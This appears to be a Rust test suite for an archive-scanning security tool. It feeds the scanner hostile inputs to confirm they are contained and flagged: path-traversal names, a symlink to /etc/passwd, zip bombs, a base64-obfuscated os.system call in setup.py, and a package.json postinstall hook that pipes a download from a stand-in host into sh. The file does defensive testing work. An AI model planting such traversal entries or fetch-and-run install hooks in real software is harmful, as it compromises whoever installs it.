//! Hostile archives and folders: bounded, told, never followed.

use std::io::{Cursor, Write};

use flate2::{Compression, write::GzEncoder};
use proptest::prelude::*;
use tracehound_model::Decision;
use tracehound_vet::{CheckId, GapKind, Limits, Severity, judge, tree};
use zip::{ZipWriter, write::SimpleFileOptions};

fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in entries {
        writer.start_file(*name, SimpleFileOptions::default()).expect("an entry");
        writer.write_all(content).expect("written");
    }
    writer.finish().expect("a zip").into_inner()
}

fn gz(content: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(content).expect("written");
    encoder.finish().expect("a gzip")
}

fn tar(add: impl FnOnce(&mut tar::Builder<Vec<u8>>)) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    add(&mut builder);
    builder.into_inner().expect("a tar")
}

fn read(name: &str, bytes: Vec<u8>) -> tree::Tree {
    tree::read_bytes(name, bytes, Limits::default())
}

#[test]
fn a_name_that_leads_out_is_told_and_stays_inside() {
    let tree = read("x.zip", zip(&[("../../.bashrc", b"a"), ("/etc/x", b"b"), ("ok/c.txt", b"c")]));
    let paths: Vec<&str> = tree.files.iter().map(|file| &file.path[..]).collect();
    assert_eq!(paths, [".bashrc", "etc/x", "ok/c.txt"]);
    assert_eq!(tree.findings.iter().filter(|finding| finding.id == CheckId::Arc01).count(), 2);
    assert_eq!(judge(&tree).expect("a thread").verdict, Decision::Block);
}

#[test]
fn a_link_that_leads_out_is_told_and_not_followed() {
    let tree = read(
        "x.tar.gz",
        gz(&tar(|builder| {
            for (name, target) in [("in", "a/b"), ("out", "../../etc/passwd")] {
                let mut header = tar::Header::new_gnu();
                header.set_entry_type(tar::EntryType::Symlink);
                header.set_size(0);
                builder.append_link(&mut header, name, target).expect("a link");
            }
        })),
    );
    assert_eq!(tree.files, []);
    let told: Vec<&str> = tree.findings.iter().map(|finding| &finding.file[..]).collect();
    assert_eq!(told, ["out"]);
}

#[test]
fn an_entry_that_takes_a_password_is_not_read_and_is_a_gap() {
    let mut bytes = zip(&[("README.md", b"hello")]);
    // Bit 0 of the flags, in the entry's own head and in the directory. Source: APPNOTE.TXT of PKWARE, 4.4.4.
    for (head, flags) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let at = bytes.windows(4).position(|four| four == head).expect("a head");
        bytes[at + flags] |= 1;
    }
    let tree = read("x.zip", bytes);
    assert_eq!(tree.files, []);
    let gaps: Vec<_> = tree.gaps.iter().map(|gap| (&gap.file[..], gap.kind)).collect();
    assert_eq!(gaps, [("README.md", GapKind::Encrypted)]);
    assert_eq!(judge(&tree).expect("a thread").verdict, Decision::Incomplete);
}

#[test]
fn a_bomb_ends_where_the_limit_is_and_is_a_gap() {
    let zeros = vec![0; 40 << 20];
    for (name, bytes) in
        [("x.zip", zip(&[("a", &zeros)])), ("x.gz", gz(&zeros)), ("x.tar.gz", gz(&gz(&zeros)))]
    {
        let tree = read(name, bytes);
        let unpacked: usize = tree.files.iter().map(|file| file.bytes.len()).sum();
        assert!(unpacked <= 16 << 20, "{name}: {unpacked}");
        assert!(tree.gaps.iter().any(|gap| gap.kind == GapKind::Bomb), "{name}: {:?}", tree.gaps);
        assert_eq!(judge(&tree).expect("a thread").verdict, Decision::Incomplete, "{name}");
    }
}

#[test]
fn archives_within_archives_are_opened_and_have_an_end() {
    let mut inner =
        zip(&[("setup.py", b"import os, base64\nos.system(base64.b64decode('ZWNobyBoZWxsbyB0aGVyZQ=='))\n")]);
    inner = zip(&[("pack.zip", &inner)]);
    let report = judge(&read("x.zip", inner.clone())).expect("a thread");
    let found = report.findings.iter().find(|finding| finding.severity >= Severity::High).expect("found");
    assert_eq!((&found.file[..], found.line), ("pack.zip!setup.py", Some(2)));
    for _ in 0..4 {
        inner = zip(&[("pack.zip", &inner)]);
    }
    let report = judge(&read("x.zip", inner)).expect("a thread");
    assert!(report.gaps.iter().any(|gap| gap.kind == GapKind::TooMany), "{report:?}");
    assert_eq!(report.verdict, Decision::Incomplete);
}

#[test]
fn formats_that_are_not_opened_are_refused_by_name() {
    for (magic, format) in
        [(&b"7z\xbc\xaf\x27\x1c"[..], "7z"), (b"Rar!\x1a\x07\x01\0", "rar"), (b"\xfd7zXZ\0", "xz")]
    {
        let report = judge(&read("x", magic.to_vec())).expect("a thread");
        assert_eq!(report.verdict, Decision::Incomplete, "{format}");
        assert!(report.gaps[0].sentence.starts_with(format), "{:?}", report.gaps);
    }
}

#[test]
fn text_without_an_end_is_bounded() {
    let deep = "(".repeat(200_000);
    let long = "a = 1\n".repeat(800_000);
    for (name, text) in [
        ("a.js", &deep),
        ("a.py", &deep),
        ("a.rb", &deep),
        ("package.json", &deep),
        ("a.sh", &deep),
        ("a.py", &long),
        ("Makefile", &"x := $(shell ".repeat(20_000)),
        ("a.js", &"a?b:".repeat(50_000)),
        ("a.js", &"a.b()".repeat(20_000)),
        ("a.py", &format!("x = 1{}", "+1".repeat(50_000))),
        ("a.js", &format!("x = ''{}", "+'1'".repeat(50_000))),
    ] {
        let report = judge(&read(name, text.clone().into_bytes())).expect("a thread");
        assert!(report.findings.len() <= 1000, "{name}");
        assert!(!name.starts_with("package") || report.verdict == Decision::Incomplete, "{name}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Whatever a damaged archive holds, all of it is accounted for, and nothing of it is taken for clean.
    #[test]
    fn a_damaged_archive_is_never_clean(at in 0_usize..400, byte: u8, cut in 0_usize..400) {
        let mut bytes = zip(&[("a/package.json", br#"{"scripts": {"postinstall": "curl https://a.invalid/x | sh"}}"#), ("b.txt", b"b")]);
        let at = at % bytes.len();
        bytes[at] ^= byte;
        bytes.truncate(bytes.len() - cut % bytes.len());
        let report = judge(&read("x.zip", bytes)).expect("a thread");
        prop_assert!(report.verdict != Decision::Allow || report.read.files > 0);
    }
}
